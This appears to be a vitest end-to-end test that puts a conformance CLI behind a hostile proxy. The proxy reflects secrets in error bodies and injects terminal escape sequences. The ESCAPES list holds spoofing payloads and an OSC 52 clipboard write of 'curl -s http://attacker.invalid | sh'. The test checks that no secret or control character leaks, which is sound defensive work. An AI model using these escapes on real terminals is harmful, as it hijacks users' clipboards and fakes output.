@@ -1,0 +1,209 @@
+/**
+ * "Nothing leaks" (issue 12), end to end: the CLI against a hostile target that reflects every credential it is sent,
+ * and the run's own secrets, in its error messages, in pieces (whole, the first 26 characters, and placed so that a
+ * report's `.slice(0, 300)` of the body cuts it), and that writes terminal escape sequences into its error messages,
+ * its error codes and its /api/v1/info (clear screen, a fake green "Conformance PASS", a window title, an OSC 52
+ * clipboard write, a carriage return, a bidi override, a C1 CSI). The target is the reference server behind a proxy
+ * that rewrites its answers; the run fails (the codes are wrong), and no output holds 8 consecutive characters of any
+ * secret, nor a raw control character of the target.
+ */
+import { spawn } from 'node:child_process';
+import { mkdtempSync, readdirSync, readFileSync, statSync } from 'node:fs';
+import { createServer, request as httpRequest, type IncomingHttpHeaders } from 'node:http';
+import type { AddressInfo } from 'node:net';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { fileURLToPath } from 'node:url';
+import { Keypair } from '@solana/web3.js';
+import bs58 from 'bs58';
+import { expect, test } from 'vitest';
+import { startReferenceServer } from '../../fixtures/server/index.ts';
+import type { Matrix } from '../../suites/harness/matrix.ts';
+
+const ROOT = fileURLToPath(new URL('../..', import.meta.url));
+const FRAGMENT = 8;
+/** The areas run: credentials on every path (failures quoting error bodies), info, and intents (setup steps, cleanup). */
+const AREAS = 'OA-AUTH-|Q-AUTH-|Q-DIST-|Q-INFO-|OA-INT-';
+
+/** What a hostile target writes for a terminal to obey. */
+const ESCAPES = [
+  '\x1b[2J\x1b[H', // clear the screen
+  '\x1b[1;32mConformance PASS\x1b[0m', // a fake verdict in green
+  '\x1b]0;conformance: all checks passed\x07', // the window title
+  `\x1b]52;c;${Buffer.from('curl -s http://attacker.invalid | sh').toString('base64')}\x07`, // OSC 52: the clipboard
+  '\rConformance PASS                    ', // a carriage return over the line
+  '\u202eSSAP\u202c', // a bidi override
+  '\u009b2J', // C1 CSI: clear the screen on terminals that honour 8-bit controls
+].join('');
+
+/** Raw characters that must reach no output: C0 but tab and newline, DEL, C1, bidi embeddings, overrides, isolates. */
+const RAW_CONTROL = /[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]/;
+
+/** The credentials a request carries: service and API keys, a bearer token, `?auth=`. */
+function credentialsOf(url: string, headers: IncomingHttpHeaders): string[] {
+  const found = [headers['x-service-key'], headers['x-api-key'], headers.authorization?.replace(/^Bearer\s+/i, ''),
+    new URL(url, 'http://x').searchParams.get('auth') ?? undefined];
+  return found.filter((v): v is string => typeof v === 'string' && v.length >= FRAGMENT);
+}
+
+/**
+ * The error body with every credential reflected: whole and its first 26 characters in the message, and one more
+ * placed to straddle character 300 of the serialised body (what a setup-failed message keeps); escape sequences in the
+ * message, and in the code unless it must stay one the documents list.
+ */
+function hostileError(body: Record<string, unknown>, reflected: string[], keepCode: boolean): Record<string, unknown> {
+  const error = typeof body.error === 'object' && body.error !== null ? body.error as Record<string, unknown> : body;
+  const said = String(error.message ?? 'refused');
+  if (!keepCode) error.code = `${String(error.code ?? 'ERROR')}${ESCAPES.slice(0, 24)}`;
+  error.message = '@@';
+  const at = JSON.stringify(body).indexOf('@@');
+  const cut = `${'.'.repeat(Math.max(0, 300 - 13 - at))}${reflected[0] ?? ''}`; // 13 characters of it before the cut
+  error.message = `${cut} ${said}: ${reflected.map((s) => `credential ${s} (starts ${s.slice(0, 26)})`).join(', ')} ${ESCAPES}`;
+  return body;
+}
+
+/**
+ * A proxy in front of the reference server: the control API passes through (the proxy learns the secrets minted
+ * there); every other error answer in JSON is rewritten by `hostileError` with the request's credentials and the
+ * run's `secrets`, and /api/v1/info gains a field of escapes and secrets.
+ */
+async function hostileProxy(upstream: string, controlPrefix: string, known: Set<string>, secrets: string[]): Promise<{ url: string; close(): Promise<void> }> {
+  const target = new URL(upstream);
+  const server = createServer((req, res) => {
+    const body: Buffer[] = [];
+    req.on('data', (c: Buffer) => body.push(c));
+    req.on('end', () => {
+      const url = req.url ?? '/';
+      const out = httpRequest({ host: target.hostname, port: target.port, method: req.method, path: url, headers: req.headers }, (up) => {
+        const chunks: Buffer[] = [];
+        up.on('data', (c: Buffer) => chunks.push(c));
+        up.on('end', () => {
+          let raw = Buffer.concat(chunks);
+          let status = up.statusCode ?? 502;
+          let json = /json/.test(String(up.headers['content-type'])) ? parse(raw) : undefined;
+          // A refused setup step, with a code the documents list: the checks that create an oco order end setup-failed,
+          // quoting the body cut at 300 characters.
+          const refused = req.method === 'POST' && /^\/orders\/intent\b/.test(url) && parse(Buffer.concat(body))?.orderType === 'oco';
+          if (refused) {
+            status = 403;
+            json = { success: false, error: { code: 'PRODUCT_DISABLED', message: 'refused' } };
+          }
+          if (url.startsWith(controlPrefix)) {
+            for (const field of ['apiKey', 'jwt']) if (typeof json?.[field] === 'string') known.add(json[field] as string);
+          } else if (json && status >= 400) {
+            raw = Buffer.from(JSON.stringify(hostileError(json, [...new Set([...credentialsOf(url, req.headers), ...secrets])], refused)));
+          } else if (json && /\/api\/v1\/info(\?|$)/.test(url)) {
+            raw = Buffer.from(JSON.stringify({ ...json, notice: `${ESCAPES} ${secrets.join(' ')}` }));
+          }
+          const headers = { ...up.headers, 'content-length': String(raw.length) };
+          delete headers['transfer-encoding'];
+          res.writeHead(status, headers).end(raw);
+        });
+      });
+      out.on('error', () => res.destroy());
+      out.end(Buffer.concat(body));
+    });
+  });
+  await new Promise<void>((r) => server.listen(0, '127.0.0.1', r));
+  return {
+    url: `http://127.0.0.1:${(server.address() as AddressInfo).port}`,
+    close: () => new Promise<void>((r) => {
+      server.close(() => r());
+      server.closeAllConnections();
+    }),
+  };
+}
+
+function parse(raw: Buffer): Record<string, unknown> | undefined {
+  try {
+    const value = JSON.parse(raw.toString('utf8')) as unknown;
+    return typeof value === 'object' && value !== null && !Array.isArray(value) ? value as Record<string, unknown> : undefined;
+  } catch {
+    return undefined;
+  }
+}
+
+function cli(args: string[], env: NodeJS.ProcessEnv): Promise<{ code: number; stdout: string; stderr: string }> {
+  return new Promise((resolve) => {
+    const clean = Object.fromEntries(Object.entries(process.env)
+      .filter(([k]) => !/^(CONFORMANCE_|ORDERS_API|QUOTES_|TEST_WALLET|VITEST|FORCE_COLOR)/.test(k)));
+    // NO_COLOR: vitest's own colours off, so that any escape sequence in the output could only be the target's.
+    const child = spawn(process.execPath, ['--import', 'tsx', 'bin/conformance.ts', ...args], { cwd: ROOT, env: { ...clean, NO_COLOR: '1', ...env } });
+    let stdout = '';
+    let stderr = '';
+    child.stdout.on('data', (d) => (stdout += d));
+    child.stderr.on('data', (d) => (stderr += d));
+    child.on('close', (code) => resolve({ code: code ?? -1, stdout, stderr }));
+  });
+}
+
+function filesUnder(dir: string): string[] {
+  return readdirSync(dir).flatMap((f) => (statSync(join(dir, f)).isDirectory() ? filesUnder(join(dir, f)) : [join(dir, f)]));
+}
+
+/** Where in `text` a run of FRAGMENT characters of a secret stands, and of which: one pass with a set of windows. */
+function fragmentsIn(text: string, windows: Map<string, string>): string[] {
+  const found = new Set<string>();
+  for (let i = 0; i + FRAGMENT <= text.length; i++) {
+    const name = windows.get(text.slice(i, i + FRAGMENT));
+    if (name) found.add(`${name} "${text.slice(i, i + 3)}…"`);
+  }
+  return [...found];
+}
+
+test('a target that reflects credentials in pieces and writes escape sequences: no secret fragment, no raw control character in any output', async () => {
+  const server = await startReferenceServer({ port: 0 });
+  let proxy: Awaited<ReturnType<typeof hostileProxy>> | undefined;
+  try {
+    const mint = async (path: string) =>
+      await (await fetch(`${server.controlUrl}${path}`, { method: 'POST', body: '{}', headers: { 'content-type': 'application/json' } })).json() as Record<string, string>;
+    const secrets: Record<string, string> = {
+      ORDERS_API_KEY: (await mint('/tenants')).apiKey!,
+      ORDERS_API_KEY_ALT: (await mint('/tenants')).apiKey!,
+      QUOTES_API_KEY: (await mint('/quote-keys')).apiKey!,
+      QUOTES_JWT: (await mint('/quote-jwts')).jwt!,
+      TEST_WALLET_SECRET_KEY: bs58.encode(Keypair.generate().secretKey),
+    };
+    // The target reflects the run's keys; it is handed the wallet secret too, the worst case of a reflection.
+    const known = new Set(Object.values(secrets));
+    proxy = await hostileProxy(server.baseUrl, new URL(server.controlUrl).pathname, known, Object.values(secrets));
+    const via = (url: string) => url.replace(server.baseUrl, proxy!.url);
+    const dir = mkdtempSync(join(tmpdir(), 'conformance-hostile-'));
+    const r = await cli(['--orders-url', via(server.ordersUrl), '--quotes-url', via(server.quotesUrl), '--control-url', via(server.controlUrl),
+      '--gateway-url', via(server.gatewayUrl), '--profile', 'full', '--max-rps', '0', '--seed', '12', '--report-dir', dir, '--grep', AREAS], secrets);
+    expect(r.code, r.stdout.slice(-3000) + r.stderr.slice(-3000)).toBe(1);
+
+    const outputs: Array<[string, string]> = [['stdout', r.stdout], ['stderr', r.stderr],
+      ...filesUnder(dir).map((f): [string, string] => [f.slice(dir.length + 1), readFileSync(f, 'utf8')])];
+    expect(outputs.map(([name]) => name)).toEqual(expect.arrayContaining(['matrix.json', 'matrix.md', 'matrix.html', 'junit.xml']));
+    expect(outputs.some(([name]) => name.startsWith('allure-results/'))).toBe(true);
+
+    // The reflections reached the reports, redacted, and the escapes shown as text: the test judged real traffic.
+    const m = JSON.parse(readFileSync(join(dir, 'matrix.json'), 'utf8')) as Matrix;
+    const messages = m.checks.map((c) => c.message ?? '').join('\n');
+    expect(m.checks.filter((c) => c.verdict === 'fail').length).toBeGreaterThan(20);
+    // A setup step's body cut at 300 characters, 13 characters into a key: the piece is redacted as a part.
+    const setupFailed = m.checks.filter((c) => c.verdict === 'setup-failed').map((c) => c.message ?? '');
+    expect(setupFailed.some((msg) => /\.{8}\[part of \$[A-Z_]+\]/.test(msg)), setupFailed.join('\n')).toBe(true);
+    expect(r.stdout).toMatch(/^ {2}SETUP-FAILED .*\.{8}\[part of \$[A-Z_]+\]/m); // the CLI's summary quotes it
+    expect(messages).toMatch(/\[part of \$[A-Z_]+\]/);
+    expect(messages).toMatch(/\$(ORDERS_API_KEY|PROVISIONED_ORDERS_KEY)\b/);
+    expect(messages).toMatch(/\\(x1b|u001b)\]0;/); // a window title, shown as text (JSON.stringify of a body writes \u001b)
+    expect(messages).toContain('\\x9b2J'); // a C1 CSI, which JSON.stringify leaves raw
+    expect(JSON.stringify(m.run.target.info)).toContain('\\x1b[2J');
+    expect(known.size, 'secrets the run minted through the control API').toBeGreaterThan(Object.keys(secrets).length);
+
+    const windows = new Map<string, string>();
+    const names = new Map([...known].map((v) => [v, 'minted during the run']));
+    for (const [name, value] of Object.entries(secrets)) names.set(value, name);
+    for (const [value, name] of names) for (let i = 0; i + FRAGMENT <= value.length; i++) windows.set(value.slice(i, i + FRAGMENT), name);
+    const leaks = outputs.flatMap(([where, text]) => fragmentsIn(text, windows).map((f) => `${f} in ${where}`));
+    expect(leaks).toEqual([]);
+    const raw = outputs.filter(([, text]) => RAW_CONTROL.test(text))
+      .map(([where, text]) => `${where}: ${JSON.stringify(text.slice(Math.max(0, text.search(RAW_CONTROL) - 40), text.search(RAW_CONTROL) + 20))}`);
+    expect(raw).toEqual([]);
+  } finally {
+    await proxy?.close();
+    await server.close();
+  }
+}, 300_000);
